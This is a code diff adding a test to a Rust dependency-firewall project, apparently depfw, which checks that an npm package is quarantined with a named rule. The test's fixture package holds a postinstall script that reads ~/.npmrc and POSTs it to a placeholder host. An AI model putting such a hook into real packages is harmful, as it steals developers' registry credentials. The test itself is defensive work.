@@ -22,6 +22,10 @@ struct Env {
 }
 
 fn start(check: TestCheck) -> Env {
+    start_with(registry::policy(check))
+}
+
+fn start_with(policy: depfw::server::PolicyState) -> Env {
     let rt = tokio::runtime::Builder::new_multi_thread()
         .worker_threads(2)
         .enable_all()
@@ -29,7 +33,7 @@ fn start(check: TestCheck) -> Env {
         .unwrap();
     let (fixture, depfw) = rt.block_on(async {
         let (upstream, fixture) = registry::start_fixture().await;
-        let depfw = registry::start_depfw(&upstream, registry::policy(check), "").await;
+        let depfw = registry::start_depfw(&upstream, policy, "").await;
         (fixture, depfw)
     });
     let tmp = tempfile::tempdir().unwrap();
@@ -187,6 +191,52 @@ fn tampered_artifact_is_refused() {
         .pop()
         .unwrap();
     assert_eq!(last.outcome, "integrity-mismatch");
+}
+
+/// A release whose digest is genuine but whose postinstall runs a file that reads
+/// `~/.npmrc` (nx 21.5.0's shape): npm shows depfw's reason, naming the file and the rule.
+fn content_rule_refusal_names_the_file_and_rule() {
+    use depfw::policy::content::{ContentConfig, ContentLedger, ContentRules};
+    use std::io::Write as _;
+    let check: Arc<dyn depfw::policy::Check> = Arc::new(TestCheck::default());
+    let policy = depfw::policy::Policy::new(vec![check], Arc::default(), "content".into())
+        .with_content(Arc::new(ContentRules {
+            cfg: ContentConfig::default(),
+            ledger: ContentLedger::default(),
+        }));
+    let env = start_with(depfw::server::PolicyState::Ready(policy));
+    let mut tar = tar::Builder::new(Vec::new());
+    for (path, bytes) in [
+        (
+            "package/package.json",
+            &br#"{"name":"is-odd","version":"3.0.1","scripts":{"postinstall":"node telemetry.js"}}"#[..],
+        ),
+        (
+            "package/telemetry.js",
+            b"const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://example.invalid/', {method: 'POST', body: t});\n",
+        ),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o644);
+        tar.append_data(&mut header, path, bytes).unwrap();
+    }
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(&tar.into_inner().unwrap()).unwrap();
+    env.fixture
+        .replaced
+        .lock()
+        .unwrap()
+        .insert("is-odd-3.0.1.tgz".into(), gz.finish().unwrap());
+    let out = env.npm(&["install", "is-odd@3.0.1"]);
+    assert!(!out.status.success());
+    let err = stderr(&out);
+    assert!(err.contains("E403"), "{err}");
+    assert!(
+        err.contains("is-odd@3.0.1 is quarantined, awaiting approval: script-credential-access: package/telemetry.js"),
+        "{err}"
+    );
+    assert_eq!(env.installed("is-odd"), None);
 }
 
 fn lockfile_install_of_a_denied_version_is_refused_at_the_gate() {
@@ -544,6 +594,7 @@ crate::require::trials! {
         exact_pin_of_a_denied_version_is_etarget,
         typosquat_name_is_refused_with_depfws_reason,
         tampered_artifact_is_refused,
+        content_rule_refusal_names_the_file_and_rule,
         lockfile_install_of_a_denied_version_is_refused_at_the_gate,
         scoped_package_installs_and_its_denied_version_is_skipped,
         npm_view_latest_is_the_newest_allowed_version;
